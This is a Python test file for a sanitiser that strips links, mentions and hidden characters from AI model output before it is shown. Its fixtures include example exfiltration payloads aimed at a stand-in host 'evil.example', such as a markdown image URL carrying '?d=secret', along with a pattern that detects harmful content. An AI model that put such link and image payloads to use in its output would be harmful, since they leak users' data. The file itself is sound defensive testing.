"""What goes to a model and what comes from it: kept apart, cut, and made harmless."""

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import BaseModel

from domain.asks import (
    Ask,
    Given,
    data_text,
    estimated_tokens,
    presses,
    system_text,
    tamed,
    tamed_value,
    texts_of,
    visible,
)

WILD = st.lists(
    st.one_of(
        st.text(max_size=12),
        st.sampled_from(
            [
                *("<", ">", "<!", "<@", "<#", "|", "]", "](", "[", "!", "(", ")", "&lt;", "&gt;", "&amp;"),
                *("&#60;", "@here", "@channel", "U0123ABCD", "!channel", "https://", "//", "www.", "/path"),
                *(
                    "http://evil.example/x?d=1",
                    "evil.example",
                    "mailto:",
                    "a@b.com",
                    "\u200b",
                    "\u202e",
                    "\n",
                ),
                *(" ", "tel:", "javascript:", "data:", "[x]: http://a.b", "subteam^S1", "date^1^{date}"),
            ]
        ),
    ),
    max_size=14,
).map("".join)
HARMFUL = re.compile(
    r"[<>]|https?://|\]\(\S|\bwww\.\S|@(?:channel|here|everyone)\b|@[UW][A-Z0-9]{5}|&lt;|&#60;"
    r"|(?<![\w.-])(?:[a-z0-9-]+\.)+[a-z]{2,}/\S",
    re.IGNORECASE,
)


@pytest.mark.parametrize(
    ("wrote", "shown"),
    [
        ("Ask <!channel> and <@U0123ABC|ana> now", "Ask and now"),
        ("See <https://evil.example/?d=1|the page>.", "See the page."),
        ("[click](https://evil.example/a(b)c) it", "click it"),
        ("![x](https://evil.example/?d=secret)", "x"),
        ("Go to evil.example/steal?n=5 then", "Go to then"),
        ("&lt;!here&gt; &#60;@U0123ABC&#62; &amp;lt;!here&amp;gt;", ""),
        ("<ht<!here>tps://x.com>", "‹"),
        ("@channel, @here and @everyone", "channel, here and everyone"),
        ("Write to ana@acme.com", "Write to acme.\u2060com"),
        ("Booking.com pays 2.5 percent.", "Booking.\u2060com pays 2.5 percent."),
        ("one\u200btwo\u202e three", "onetwo three"),
        ("Say: “Why now?”\n- first\n- second", "Say: “Why now?”\n- first\n- second"),
        ("- one\n  - two  wide", "- one\n  - two wide"),
        ("Margins < 5 and > 3", "Margins ‹ 5 and › 3"),
    ],
)
def test_what_a_model_wrote_can_neither_ping_nor_link(wrote: str, shown: str) -> None:
    assert tamed(wrote) == shown


@given(WILD)
def test_nothing_gets_through_and_taming_twice_changes_nothing(wrote: str) -> None:
    once = tamed(wrote)
    assert not HARMFUL.search(once)
    assert tamed(once) == once


@given(st.lists(st.tuples(st.text(max_size=40), st.text(max_size=80)), max_size=4))
def test_data_is_one_json_value_whatever_stands_in_it(pieces: list[tuple[str, str]]) -> None:
    ask = Ask("test", "Answer.", tuple(Given(*each) for each in pieces))
    found = json.loads(data_text(ask))
    assert found == {"material": [{"what": label, "text": visible(text)} for label, text in pieces]}
    assert system_text(ask).endswith("Answer.")


def test_the_most_that_an_ask_may_cost_covers_its_question_and_its_longest_answer() -> None:
    short = Ask("test", "Answer.", max_tokens=100)
    longer = Ask("test", "Answer.", (Given("notes", "x" * 30_000),), max_tokens=100)
    assert 100 < estimated_tokens(short) < 1_000
    assert estimated_tokens(longer) - estimated_tokens(short) < 2_100  # 6,000 characters at most


class Inner(BaseModel):
    quote: str


class Shape(BaseModel):
    say: str
    inner: list[Inner] = []
    by: dict[str, str] = {}
    times: int = 0


def test_every_text_of_a_value_is_tamed() -> None:
    wild = Shape(say="<!here> hi", inner=[Inner(quote="[a](http://b.c)")], by={"k": "<@U0123ABC>x"}, times=3)
    assert tamed_value(Shape, wild) == Shape(say="hi", inner=[Inner(quote="a")], by={"k": "x"}, times=3)


def test_every_text_of_a_value_is_looked_at_but_what_is_named() -> None:
    value = Shape(say="a", inner=[Inner(quote="b")], by={"k": "c"})
    assert texts_of(value) == ["a", "b", "c"]
    assert texts_of(value, without=frozenset({"inner", "by"})) == ["a"]


def test_words_that_press_are_known() -> None:
    assert presses(["Ask first.", "Only 2 spots left, sign today."])
    assert not presses(["Their contract ends in May, as they told us."])
